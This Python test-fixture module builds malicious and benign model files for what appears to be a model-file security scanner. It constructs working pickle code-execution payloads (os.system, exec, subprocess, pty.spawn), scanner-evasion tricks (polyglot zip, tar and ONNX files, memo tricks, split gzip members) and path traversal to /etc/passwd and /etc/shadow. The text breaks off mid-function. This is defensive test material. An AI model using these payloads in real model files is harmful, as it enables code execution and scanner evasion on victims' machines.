"""The crafted malicious corpus and the benign set, generated (never downloaded).

Malicious pickles are written opcode by opcode. Each payload is a code-execution or
file/network gadget; those that run a command or code create ``marker`` (see
``MARKER_CASES``, proven by loading them in a subprocess), so a scan that leaves no
marker behind ran nothing. Shared by the tests and by
``benchmarks/scan_models.py``.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from pathlib import Path

__all__ = ["MARKER_CASES", "benign_corpus", "malicious_corpus"]

MARKER_CASES = (
    "proto0_global_os_system",
    "bypass_proto0_pickle_zip_polyglot",
    "bypass_pickle_in_front_of_torch_zip",
    "stack_global_builtins_exec",
    "bypass_stack_global_via_memo",
    "bypass_stack_global_via_long_binget",
    "bypass_stack_global_via_text_get",
    "bypass_unresolved_stack_global",
    "builtins_getattr_import_chain",
    "inst_opcode",
    "obj_opcode",
    "bypass_proto0_memo_index_with_space",
    "bypass_proto0_line_over_64k",
    "bypass_proto0_over_10000_marks",
    "bypass_proto0_signed_memo_index",
    "bypass_proto0_nul_terminated_memo_index",
    # issue 16: pickle.load reads these as pickles (the scanner once did not).
    "family_1_polyglot_tar_pickle",
    "family_1_polyglot_onnx_pickle",
    "family_5_joblib_array_bytes_run_by_pickle_load",
)

# Protocol 0 prefixes CPython's unpickler reads and the walker once refused (finding 2):
# a failed walk fell through to the text test and the file came back "text", safe.
PROTO0_PREFIXES = {
    "memo_index_with_space": b"Vx\np 0\n0",
    "line_over_64k": b"V" + b"A" * 70_000 + b"\n0",
    "over_10000_marks": b"(" * 10_001 + b"1" * 10_001,
    "signed_memo_index": b"Vx\np+0\n0",
    # _pickle.c reads the index with PyLong_FromString, which stops at a NUL byte.
    "nul_terminated_memo_index": b"Vx\np0\x00junk\n0",
}


def sbu(s: str) -> bytes:
    """SHORT_BINUNICODE."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def call_global(mod: str, name: str, arg: str, proto: int = 4) -> bytes:
    """mod.name(arg) with STACK_GLOBAL."""
    return b"\x80" + bytes([proto]) + sbu(mod) + sbu(name) + b"\x93" + sbu(arg) + b"\x85R."


def call_global0(mod: str, name: str, arg: str) -> bytes:
    """mod.name(arg) with protocol 0 text opcodes."""
    return f"c{mod}\n{name}\n(S'{arg}'\ntR.".encode()


def _touch_cmd(marker: Path) -> str:
    return f"touch {marker}"


def _exec_src(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _zip(entries: dict[str, bytes], *, method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _torch_zip(data_pkl: bytes, top: str = "archive") -> bytes:
    return _zip(
        {
            f"{top}/data.pkl": data_pkl,
            f"{top}/byteorder": b"little",
            f"{top}/data/0": b"\x00" * 16,
            f"{top}/version": b"3\n",
        }
    )


def _patch_local(z: bytes, fn: object) -> bytes:
    """Apply ``fn(bytearray, local_header_offset)`` to the first local header."""
    b = bytearray(z)
    fn(b, 0)  # type: ignore[operator]
    return bytes(b)


def _bad_crc(z: bytes) -> bytes:
    b = bytearray(z)
    # Corrupt the CRC in the local header and in the central directory entry.
    b[14:18] = b"\xde\xad\xbe\xef"
    cd = b.find(b"PK\x01\x02")
    b[cd + 16 : cd + 20] = b"\xde\xad\xbe\xef"
    return bytes(b)


def _flag_bits(z: bytes) -> bytes:
    b = bytearray(z)
    b[6:8] = (0x0800 | 0x0002 | 0x0004).to_bytes(2, "little")  # flags zipfile/picklescan choke on
    cd = b.find(b"PK\x01\x02")
    b[cd + 8 : cd + 10] = (0x0800 | 0x0002 | 0x0004).to_bytes(2, "little")
    return bytes(b)


def _name_mismatch(z: bytes) -> bytes:
    b = bytearray(z)
    ln = int.from_bytes(b[26:28], "little")
    name = bytes(b[30 : 30 + ln])
    b[30 : 30 + ln] = name.replace(b"data.pkl", b"data.txt")
    return bytes(b)


def _npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def _legacy_torch(second: bytes) -> bytes:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    sysinfo = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    return magic + version + sysinfo + second + pickle.dumps([], protocol=2) + b"\x00" * 64


def _keras(config: dict[str, object]) -> bytes:
    return _zip(
        {
            "metadata.json": json.dumps({"keras_version": "3.5.0"}).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 64,
        },
        method=zipfile.ZIP_DEFLATED,
    )


def _onnx(external: str | None = None, domain: str | None = None) -> bytes:
    import onnx
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 2])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])
    w = helper.make_tensor("w", TensorProto.FLOAT, [1, 2], [1.0, 2.0])
    if external is not None:
        w = TensorProto()
        w.name = "w"
        w.data_type = TensorProto.FLOAT
        w.dims.extend([1, 2])
        w.data_location = TensorProto.EXTERNAL
        e = w.external_data.add()
        e.key, e.value = "location", external
    node = helper.make_node("Add", ["x", "w"], ["y"], domain=domain or "")
    opsets = [helper.make_opsetid("", 17)]
    if domain:
        opsets.append(helper.make_opsetid(domain, 1))
    graph = helper.make_graph([node], "g", [x], [y], [w])
    model = helper.make_model(graph, opset_imports=opsets)
    data: bytes = model.SerializeToString()
    onnx.checker.check_model(model) if external is None and domain is None else None
    return data


def _pb_fields(data: bytes) -> list[tuple[int, bytes]]:
    """Top-level protobuf fields as (field number, raw bytes of tag and value)."""
    out = []
    i = 0
    while i < len(data):
        j = i
        tag = shift = 0
        while True:
            b = data[j]
            tag |= (b & 0x7F) << shift
            j += 1
            shift += 7
            if b < 0x80:
                break
        wt = tag & 7
        if wt == 0:
            while data[j] >= 0x80:
                j += 1
            j += 1
        elif wt == 2:
            ln = shift = 0
            while True:
                b = data[j]
                ln |= (b & 0x7F) << shift
                j += 1
                shift += 7
                if b < 0x80:
                    break
            j += ln
        else:
            j += 8 if wt == 1 else 4
        out.append((tag >> 3, data[i:j]))
        i = j
    return out


def _onnx_reordered(model: bytes) -> bytes:
    """The same ModelProto with its fields written in reverse order (graph first):
    protobuf readers accept any order; a detector keyed on ir_version coming first does not."""
    return b"".join(raw for _, raw in reversed(_pb_fields(model)))


def _onnx_subgraph(external: str) -> bytes:
    """An If node whose then-branch holds a tensor reading external data from ``external``."""
    from onnx import TensorProto, helper

    t = TensorProto()
    t.name, t.data_type = "w", TensorProto.FLOAT
    t.dims.extend([1])
    t.data_location = TensorProto.EXTERNAL
    e = t.external_data.add()
    e.key, e.value = "location", external
    out = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
    branch = helper.make_graph([helper.make_node("Constant", [], ["y"], value=t)], "b", [], [out])
    cond = helper.make_tensor_value_info("c", TensorProto.BOOL, [])
    node = helper.make_node("If", ["c"], ["y"], then_branch=branch, else_branch=branch)
    graph = helper.make_graph([node], "g", [cond], [out])
    data: bytes = helper.make_model(graph).SerializeToString()
    return data


def joblib_element_size_differential(payload: bytes) -> bytes:
    """A real ``joblib.dump(np.arange(4.))`` whose dtype state claims 4096-byte elements
    (finding 5). numpy ignores a state's element size for float64 and joblib reads the
    32 data bytes; ``payload`` (opcodes, no STOP) follows them, padded with no-op
    opcodes to where a scanner trusting the state would land on the STOP."""
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump(np.arange(4.0), buf)
    data = buf.getvalue()
    state = b"J\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00t"
    assert data.count(state) == 1 and data.endswith(b".")
    body = data[:-1].replace(state, b"J\x00\x10\x00\x00J\xff\xff\xff\xffK\x00t")
    pad = (len(body) - 32 + 4096 * 4) - len(body) - len(payload)
    filler = (b"K\x000" if pad % 2 else b"") + b"N0" * ((pad - 3 * (pad % 2)) // 2)
    return body + payload + filler + b"."


def zip_with_symlink(name: str, target: bytes) -> bytes:
    """A zip whose member ``name`` is a symbolic link to ``target`` (Unix mode bits)."""
    import stat

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("model/config.txt", b"layers: 2\n")
        info = zipfile.ZipInfo(name)
        info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, target)
    return buf.getvalue()


def keras_zip(config: dict[str, object]) -> bytes:
    return _keras(config)


def keras_layer_config(layer: dict[str, object]) -> dict[str, object]:
    """A Keras 3 Sequential config (as keras 3.15 writes it) holding ``layer``."""
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": {
                "module": "keras",
                "class_name": "DTypePolicy",
                "config": {"name": "float32"},
                "registered_name": None,
            },
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
                    "registered_name": None,
                },
                layer,
            ],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
        "compile_config": {
            "optimizer": {
                "module": "keras.optimizers",
                "class_name": "Adam",
                "config": {"name": "adam", "learning_rate": 0.001},
                "registered_name": None,
            },
            "loss": {
                "module": "keras.losses",
                "class_name": "MeanSquaredError",
                "config": {"name": "mean_squared_error", "reduction": "sum_over_batch_size"},
                "registered_name": None,
            },
            "metrics": [
                {
                    "module": "builtins",
                    "class_name": "function",
                    "config": "mean_absolute_error",
                    "registered_name": "function",
                }
            ],
        },
    }


def keras_dense() -> dict[str, object]:
    init = {"module": "keras.initializers", "registered_name": None}
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {
            "name": "dense",
            "units": 2,
            "activation": "gelu",
            "kernel_initializer": init | {"class_name": "GlorotUniform", "config": {"seed": None}},
            "bias_initializer": init | {"class_name": "Zeros", "config": {}},
            "kernel_regularizer": {
                "module": "keras.regularizers",
                "class_name": "L2",
                "config": {"l2": 0.01},
                "registered_name": None,
            },
        },
        "registered_name": None,
    }


def _joblib_object_array(payload: bytes) -> bytes:
    """A real joblib dump of an object array, its nested pickle replaced by ``payload``."""
    import joblib
    import numpy as np

    from bastion.integrity.scanning._pickle import walk_pickles

    buf = io.BytesIO()
    joblib.dump(np.array([1, "x"], dtype=object), buf)
    data = buf.getvalue()
    res = walk_pickles(data)
    ((start, _),) = res.nested
    import pickletools

    end = start
    for op, _arg, pos in pickletools.genops(data[start:]):
        if op.name == "STOP":
            end = start + pos + 1  # type: ignore[operator]
    return data[:start] + payload + data[end:]


def _keras_lambda_config() -> dict[str, object]:
    return {
        "class_name": "Sequential",
        "module": "keras",
        "config": {
            "layers": [
                {
                    "class_name": "Lambda",
                    "module": "keras.layers",
                    "config": {
                        "name": "l",
                        "function": {
                            "class_name": "__lambda__",
                            "config": {"code": "4wEAAAAAAAAA"},
                        },
                    },
                }
            ]
        },
    }


def _keras_function_config(module: str, function: str) -> dict[str, object]:
    return {
        "class_name": "Sequential",
        "module": "keras",
        "config": {
            "layers": [
                {
                    "class_name": "Dense",
                    "module": "keras.layers",
                    "config": {
                        "activation": {
                            "module": module,
                            "class_name": "function",
                            "config": function,
                            "registered_name": "function",
                        }
                    },
                }
            ]
        },
    }


def malicious_corpus(marker: Path) -> dict[str, bytes]:
    """Name (the technique) -> file bytes. Every one would create ``marker`` if loaded."""
    cmd = _touch_cmd(marker)
    src = _exec_src(marker)
    evil = call_global("builtins", "exec", src)
    memo = (
        b"\x80\x04"
        + sbu("builtins") + b"\x94" + sbu("exec") + b"\x94" + b"00"  # push, memoize, pop both
        + b"h\x00h\x01\x93" + sbu(src) + b"\x85R."
    )  # fmt: skip
    memo_long = (
        b"\x80\x04" + sbu("posix") + b"r\x07\x00\x00\x00" + sbu("system") + b"r\x09\x00\x00\x00"
        + b"00j\x07\x00\x00\x00j\x09\x00\x00\x00\x93" + sbu(cmd) + b"\x85R."
    )  # fmt: skip
    text_memo = f"\x80\x02Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93V{cmd}\n\x85R.".encode("latin-1")
    binstring = (
        b"\x80\x02U\x08builtinsU\x04exec\x93U" + bytes([len(src)]) + src.encode() + b"\x85R."
    )
    unresolved = (
        b"\x80\x04" + sbu("builtins") + sbu("str") + b"\x93" + sbu("os") + b"\x85R"
        + sbu("system") + b"\x93" + sbu(cmd) + b"\x85R."
    )  # fmt: skip
    getattr_chain = (
        b"\x80\x04" + sbu("builtins") + sbu("getattr") + b"\x93"
        + sbu("builtins") + sbu("__import__") + b"\x93" + sbu("os") + b"\x85R"
        + sbu("system") + b"\x86R" + sbu(cmd) + b"\x85R."
    )  # fmt: skip
    partial = (
        b"\x80\x04" + sbu("functools") + sbu("partial") + b"\x93"
        + sbu("os") + sbu("system") + b"\x93" + sbu(cmd) + b"\x86R)R."
    )  # fmt: skip
    inst = f"(S'{cmd}'\nios\nsystem\n.".encode()
    obj = f"(cos\nsystem\nS'{cmd}'\no.".encode()
    popen = (
        b"\x80\x04" + sbu("subprocess") + sbu("Popen") + b"\x93"
        + sbu("sh") + sbu("-c") + sbu(cmd) + b"\x87\x85R."
    )  # fmt: skip
    global_memo_reuse = (
        b"\x80\x04" + sbu("nt") + sbu("system") + b"\x93\x94" + b"0h\x00" + sbu(cmd) + b"\x85R."
    )  # fmt: skip
    ext = b"\x80\x02\x82\x01" + sbu(cmd) + b"\x85R."
    payload_then_garbage = call_global("builtins", "exec", src)[:-1] + b"\xff\xfe garbage"
    dict_hidden = (
        b"\x80\x04}\x94(" + sbu("a") + b"K\x01" + sbu("b")
        + call_global("os", "system", cmd)[2:-1] + b"u."
    )  # fmt: skip
    corpus = {
        "proto0_global_os_system": call_global0("os", "system", cmd),
        "proto0_global_posix_system": call_global0("posix", "system", cmd),
        "proto2_global_subprocess": (b"\x80\x02" + call_global0("subprocess", "getoutput", cmd)),
        "stack_global_builtins_exec": evil,
        "bypass_stack_global_via_memo": memo,
        "bypass_stack_global_via_long_binget": memo_long,
        "bypass_stack_global_via_text_get": text_memo,
        "bypass_stack_global_binstring": binstring,
        "bypass_unresolved_stack_global": unresolved,
        "builtins_getattr_import_chain": getattr_chain,
        "functools_partial_os_system": partial,
        "inst_opcode": inst,
        "obj_opcode": obj,
        "subprocess_popen_argv": popen,
        "global_reused_from_memo": global_memo_reuse,
        "ext1_extension_registry": ext,
        "payload_then_malformed_tail": payload_then_garbage,
        "payload_inside_dict_value": dict_hidden,
        "cve_2025_1716_pip_main": call_global("pip", "main", "install"),
        "cve_2025_10157_asyncio_submodule": call_global(
            "asyncio.unix_events", "_UnixSubprocessTransport", cmd
        ),
        "runpy_run_path": call_global("runpy", "_run_code", src),
        "operator_attrgetter": call_global("_operator", "attrgetter", "system"),
        "types_functiontype": call_global("types", "FunctionType", src),
        "numpy_testing_runstring": call_global("numpy.testing._private.utils", "runstring", src),
        "torch_load_from_bytes": call_global("torch.storage", "_load_from_bytes", src),
        "pydoc_locate": call_global("pydoc", "locate", "os.system"),
        "timeit_timeit": call_global("timeit", "timeit", src),
        "cprofile_run": call_global("cProfile", "run", src),
        "pdb_run": call_global("pdb", "run", src),
        "code_interact": call_global("code", "InteractiveInterpreter", src),
        "webbrowser_open": call_global("webbrowser", "open", "file:///etc/passwd"),
        "shutil_rmtree": call_global("shutil", "rmtree", str(marker.parent / "x")),
        "socket_create_connection": call_global("socket", "create_connection", "x"),
        "ctypes_cdll": call_global("ctypes", "CDLL", "libc.so.6"),
        "importlib_import_module": call_global("importlib", "import_module", "os"),
        "marshal_loads": call_global("marshal", "loads", src),
        "pickle_loads_nested": call_global("pickle", "loads", src),
        "bdb_run": call_global("bdb", "Bdb", src),
        "pty_spawn": call_global("pty", "spawn", cmd),
        "unknown_module_suspicious": call_global("evilpkg.payload", "run", cmd),
        "python2_builtin_eval": call_global0("__builtin__", "eval", src),
        "dotted_name_to_globals": call_global(
            "collections", "OrderedDict.__init__.__globals__", "x"
        ),
        "protocol5_frame": b"\x80\x05\x95" + (len(evil) - 3).to_bytes(8, "little") + evil[2:],
        "bypass_torch_legacy_format": _legacy_torch(evil),
        "torch_zip_nonstandard_top_folder": _torch_zip(evil, top="weights-v2"),
        "bypass_nonstandard_extension_torch_zip": _torch_zip(evil, top="x"),
        "bypass_bad_crc_zip": _bad_crc(_torch_zip(evil)),
        "cve_2025_1945_zip_flag_bits": _flag_bits(_torch_zip(evil)),
        "cve_2025_1944_zip_name_mismatch": _name_mismatch(_torch_zip(evil)),
        "zip_prepended_data": b"\x00" * 100 + _torch_zip(evil),
        "zip_deflated_entry": _zip({"m/data.pkl": evil}, method=zipfile.ZIP_DEFLATED),
        "zip_in_zip": _zip({"inner.bin": _torch_zip(evil)}),
        "tar_member": _tar({"model/data.pkl": evil}),
        "tgz_member": _gz(_tar({"model.bin": evil})),
        "gzip_pickle": _gz(evil),
        "npy_object_array": _npy_object(evil),
        "npz_object_array": _zip({"arr_0.npy": _npy_object(evil)}),
        "joblib_object_array": _joblib_object_array(evil),
        "keras_lambda_layer": _keras(_keras_lambda_config()),
        "cve_2025_1550_keras_module_function": _keras(_keras_function_config("os", "system")),
        "hdf5_keras_lambda": b"\x89HDF\r\n\x1a\n"
        + b"\x00" * 32
        + b'{"class_name": "Lambda", "config": {"function": "..."}}',
        "onnx_external_data_traversal": _onnx(external="../../../etc/passwd"),
        "onnx_external_data_absolute": _onnx(external="/etc/shadow"),
        "onnx_custom_op_domain": _onnx(domain="com.evil.ops"),
        # A protocol-0 pickle with a zip appended: zip readers see the zip, pickle.load
        # (and torch's legacy path) run the pickle in front of it.
        "bypass_proto0_pickle_zip_polyglot": call_global0("os", "system", cmd)
        + _zip({"readme.txt": b"hello"}),
        "bypass_pickle_in_front_of_torch_zip": evil + _torch_zip(pickle.dumps({"w": 1})),
        # torch's legacy loader unpickles five pickles whatever their protocol.
        "bypass_torch_legacy_proto0_followon_pickle": _legacy_torch(
            call_global0("os", "system", cmd)
        ),
        "bypass_proto0_second_pickle": pickle.dumps(1, protocol=2)
        + call_global0("posix", "system", cmd),
        # ONNX read without the onnx package: fields in any order, subgraphs walked.
        "bypass_onnx_fields_reordered": _onnx_reordered(_onnx(external="../../etc/passwd")),
        "bypass_onnx_subgraph_external_data": _onnx_subgraph(external="/etc/shadow"),
        # A protocol the walker does not know is reported, never taken for "unknown".
        "pickle_unknown_protocol_6": b"\x80\x06" + evil[2:],
        # gzip readers read every member as one stream; the pickle's import is in the
        # second member, which a scanner stopping at the first never sees.
        "bypass_pickle_split_across_gzip_members": _gz(evil[:6]) + _gz(evil[6:]),
        # joblib's compressed dumps: a bare zlib stream (compress=3) and .lzma "alone".
        "joblib_zlib_compressed_payload": zlib.compress(evil, 3),
        "joblib_lzma_compressed_payload": __import__("lzma").compress(
            evil, format=__import__("lzma").FORMAT_ALONE
        ),
        # Legacy Keras .h5: the config is a JSON attribute; a module function in it runs.
        "hdf5_keras_module_function": b"\x89HDF\r\n\x1a\n"
        + b"\x00" * 40
        + json.dumps(_keras_function_config("subprocess", "getoutput")).encode()
        + b"\x00" * 16,
        "bypass_keras_config_json_only": _zip(
            {"config.json": json.dumps(_keras_function_config("os", "system")).encode()}
        ),
        # Finding 2: protocol 0 prefixes the walker refused, alone and in a torch zip.
        **{
            f"bypass_proto0_{k}": v + call_global0("os", "system", cmd)
            for k, v in PROTO0_PREFIXES.items()
        },
        **{
            f"bypass_torch_zip_proto0_{k}": _torch_zip(v + call_global0("os", "system", cmd))
            for k, v in PROTO0_PREFIXES.items()
        },
        "bypass_proto0_import_after_a_parse_failure": b"t" + call_global0("os", "system", cmd),
        # Finding 5: joblib dtype state with a lying element size.
        "bypass_joblib_element_size_differential": joblib_element_size_differential(
            call_global0("os", "system", cmd)[:-1] + b"0"
        ),
        # Finding 9: keras.* references that load files, code or SavedModels.
        "bypass_keras_get_file": _keras(_keras_function_config("keras.utils", "get_file")),
        "bypass_keras_src_file_utils": _keras(
            _keras_function_config("keras.src.utils.file_utils", "get_file")
        ),
        "bypass_keras_tfsmlayer": _keras(
            keras_layer_config(
                {
                    "module": "keras.layers",
                    "class_name": "TFSMLayer",
                    "config": {"filepath": "/tmp/saved_model", "call_endpoint": "serve"},
                    "registered_name": None,
                }
            )
        ),
        "bypass_keras_enable_unsafe_deserialization": _keras(
            _keras_function_config("keras.config", "enable_unsafe_deserialization")
        ),
        "bypass_hdf5_keras_tfsmlayer": b"\x89HDF\r\n\x1a\n"
        + b"\x00" * 40
        + json.dumps(
            {"class_name": "Sequential", "config": {"layers": [{"class_name": "TFSMLayer"}]}}
        ).encode()
        + b"\x00" * 16,
        # Finding 13: a zip member that is a symbolic link.
        "bypass_zip_symlink_member": zip_with_symlink("model/weights.bin", b"/etc/passwd"),
        "bypass_keras_config_with_npz_weights": _zip(
            {
                "config.json": json.dumps(_keras_lambda_config()).encode(),
                "model.weights.npz": _zip({"arr_0.npy": b"\x93NUMPY"}),
            }
        ),
        **issue16_malicious(marker),
    }
    return corpus


def _tar(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in entries.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def _gz(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    return c.compress(data) + c.flush()


def _safetensors(tensors: dict[str, tuple[str, list[int], bytes]], pad: int = 0) -> bytes:
    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
    blob = b""
    for name, (dtype, shape, data) in tensors.items():
        header[name] = {
            "dtype": dtype,
            "shape": shape,
            "data_offsets": [len(blob), len(blob) + len(data)],
        }
        blob += data
    h = json.dumps(header).encode()
    h += b" " * (-len(h) % 8 + pad)
    return struct.pack("<Q", len(h)) + h + blob


def benign_corpus(work: Path, sklearn_model: Path | None = None) -> dict[str, bytes]:
    """Name -> bytes of ordinary model files from torch, numpy, scikit-learn, joblib, onnx."""
    import joblib
    import numpy as np
    import torch

    out: dict[str, bytes] = {}
    sd = OrderedDict(
        [
            ("fc.weight", torch.arange(6, dtype=torch.float32).reshape(2, 3)),
            ("fc.bias", torch.zeros(2)),
        ]
    )
    b = io.BytesIO()
    torch.save(sd, b)
    out["torch_state_dict_zip"] = b.getvalue()
    b = io.BytesIO()
    torch.save(sd, b, _use_new_zipfile_serialization=False)
    out["torch_state_dict_legacy"] = b.getvalue()
    b = io.BytesIO()
    torch.save({"epoch": 3, "state": sd, "opt": {"lr": 0.01, "betas": (0.9, 0.99)}}, b)
    out["torch_checkpoint_dict"] = b.getvalue()
    b = io.BytesIO()
    np.save(b, np.arange(12, dtype=np.float64).reshape(3, 4))
    out["numpy_npy"] = b.getvalue()
    b = io.BytesIO()
    np.savez(b, a=np.ones(3), b=np.arange(4, dtype=np.int32))
    out["numpy_npz"] = b.getvalue()
    b = io.BytesIO()
    np.savez_compressed(b, a=np.ones((10, 10)))
    out["numpy_npz_compressed"] = b.getvalue()
    out["numpy_pickle"] = pickle.dumps(np.linspace(0, 1, 5), protocol=2)
    b = io.BytesIO()
    joblib.dump({"w": np.ones((4, 4)), "name": "m", "ids": np.arange(5)}, b)
    out["joblib_arrays"] = b.getvalue()
    for c in (3, "lzma", "gzip", "bz2", "xz"):
        b = io.BytesIO()
        joblib.dump({"w": np.ones((4, 4)), "ids": np.arange(5)}, b, compress=c)
        out[f"joblib_compressed_{c}"] = b.getvalue()
    for p in range(6):
        out[f"pickle_data_protocol{p}"] = pickle.dumps(
            {"a": [1, 2.5, "x", None, True], "b": (1, 2), "c": {3, 4}, "d": b"\x00\x01",
             "e": OrderedDict(k=1), "f": frozenset({1}), "g": bytearray(b"z")},
            protocol=p,
        )  # fmt: skip
    out["safetensors"] = _safetensors(
        {
            "w": ("F32", [2, 2], struct.pack("<4f", 1, 2, 3, 4)),
            "b": ("I64", [1], struct.pack("<q", 7)),
        }
    )
    out["onnx_add"] = _onnx()
    out["keras_dense"] = _keras(
        {"class_name": "Sequential", "module": "keras", "config": {"layers": [
            {"class_name": "Dense", "module": "keras.layers", "registered_name": None,
             "config": {"units": 2, "activation": "relu"}}]}}
    )  # fmt: skip
    if sklearn_model is not None:
        model_bytes = sklearn_model.read_bytes()
        out["sklearn_hgb_pickle"] = model_bytes
        import sklearn.linear_model

        lr = sklearn.linear_model.LogisticRegression().fit(np.eye(4), [0, 1, 0, 1])
        b = io.BytesIO()
        joblib.dump(lr, b)
        out["sklearn_logreg_joblib"] = b.getvalue()
        out["sklearn_logreg_pickle"] = pickle.dumps(lr)
    out.update(review_benign())
    out.update(issue16_benign())
    _ = work
    return out


def review_benign() -> dict[str, bytes]:
    """Ordinary files the review found flagged (finding 14) or that the finding 2, 5, 9
    and 13 fixes must keep safe: built with the real libraries, never loaded."""
    import warnings

    import joblib
    import numpy as np
    import torch
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import IsolationForest
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.impute import SimpleImputer
    from sklearn.linear_model import Lasso, LogisticRegression
    from sklearn.model_selection import GridSearchCV
    from sklearn.preprocessing import StandardScaler

    out: dict[str, bytes] = {}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # sparse CSR is "beta"
        tensors = {
            "sparse_coo": torch.eye(3).to_sparse(),
            "sparse_csr": torch.eye(3).to_sparse_csr(),
            "float8_e4m3fn": torch.zeros(3, dtype=torch.float8_e4m3fn),
            "float8_e5m2": torch.zeros(3, dtype=torch.float8_e5m2),
            "uint16": torch.zeros(3, dtype=torch.uint16),
            "uint32": torch.zeros(3, dtype=torch.uint32),
        }
        for name, t in tensors.items():
            for legacy in (False, True):
                b = io.BytesIO()
                torch.save({"t": t}, b, _use_new_zipfile_serialization=not legacy)
                out[f"torch_{name}{'_legacy' if legacy else ''}"] = b.getvalue()
    rng = np.random.RandomState(0)
    x, y = rng.rand(20, 3), np.array([0, 1] * 10)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        models = {
            "lasso": Lasso().fit(x, y),
            "isolation_forest": IsolationForest(n_estimators=3, random_state=0).fit(x),
            "column_transformer": ColumnTransformer(
                [("imp", SimpleImputer(), [0, 1]), ("sc", StandardScaler(), [2])]
            ).fit(x),
            "tfidf": TfidfVectorizer().fit(["a b c", "b c d", "hello world"]),
            "grid_search": GridSearchCV(LogisticRegression(), {"C": [0.1, 1]}, cv=2).fit(x, y),
        }
    for name, m in models.items():
        out[f"sklearn_{name}_pickle"] = pickle.dumps(m)
        b = io.BytesIO()
        joblib.dump(m, b)
        out[f"sklearn_{name}_joblib"] = b.getvalue()
    b = io.BytesIO()
    joblib.dump({"s": np.array(["ab", "cde"]), "v": np.zeros(2, dtype=[("a", "<f8")])}, b)
    out["joblib_string_and_structured_arrays"] = b.getvalue()
    out["keras3_dense_sequential"] = _keras(keras_layer_config(keras_dense()))
    out["text_license"] = b"MIT License\n\nCopyright (c) 2026 Example\n"
    out["text_readme"] = b"Model card\n==========\n\nVersion 2\nlicense: mit\n"
    out["text_vocab"] = b"[PAD]\n[UNK]\ntacos\nburrito\ncos\nsystem\n"
    return out


# -- issue 16: parser differentials -----------------------------------------------------


def _tar_pickle_polyglot(pickle_bytes: bytes) -> bytes:
    """A valid tar whose first header's name field holds a protocol 0 pickle: tarfile
    reads the archive, pickle.load (and torch's legacy path) the pickle at offset 0."""
    assert len(pickle_bytes) < 100
    t = bytearray(_tar({"model/weights.bin": b"\x00" * 64}))
    t[0:100] = pickle_bytes.ljust(100, b"\x00")
    t[148:156] = b" " * 8
    t[148:156] = b"%06o\x00 " % sum(t[:512])
    return bytes(t)


def _onnx_pickle_polyglot(pickle_bytes: bytes) -> bytes:
    """A valid ONNX ModelProto that is also a pickle: model_version (field 5, tag 0x28 is
    MARK) = 78 ("N"), doc_string (tag 0x32 is DUP) of 125 bytes (the length byte is
    EMPTY_DICT) holding the pickle; the model's own fields follow."""
    assert len(pickle_bytes) <= 125
    return b"\x28\x4e\x32\x7d" + pickle_bytes.ljust(125, b"N") + _onnx()


def legacy_torch_records(second_object: bytes, *, text_magic: bool = False) -> bytes:
    """A real legacy ``torch.save`` (with raw storages) followed by a second legacy
    record whose object pickle is ``second_object``: a second ``torch.load`` on the
    same handle reads it. ``text_magic`` writes the first record's magic number and
    protocol version as protocol 0 INTs (torch compares values, not bytes)."""
    import torch

    b = io.BytesIO()
    torch.save({"w": torch.ones(4)}, b, _use_new_zipfile_serialization=False)
    first = b.getvalue()
    if text_magic:
        magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
        version = pickle.dumps(1001, protocol=2)
        assert first.startswith(magic + version)
        first = b"I119547037146038801333356\n.I1001\n." + first[len(magic + version) :]
    return first + _legacy_torch(second_object)[:-64]


def legacy_torch_tar(storage_args_2: bytes) -> bytes:
    """torch's legacy tar format: the ``storages`` member holds a count, then per storage
    a pickle and raw bytes; the second storage's pickle is ``storage_args_2``."""
    args1 = pickle.dumps(("0", "cpu", None), protocol=2).replace(
        b"N\x87", b"ctorch\nFloatStorage\n\x87"
    )
    storages = (
        pickle.dumps(2, protocol=2)
        + args1
        + struct.pack("<q", 2)
        + b"\x00" * 8
        + storage_args_2
        + struct.pack("<q", 0)
        + pickle.dumps([], protocol=2)
    )
    return _tar(
        {
            "sys_info": pickle.dumps({"little_endian": True}, protocol=2),
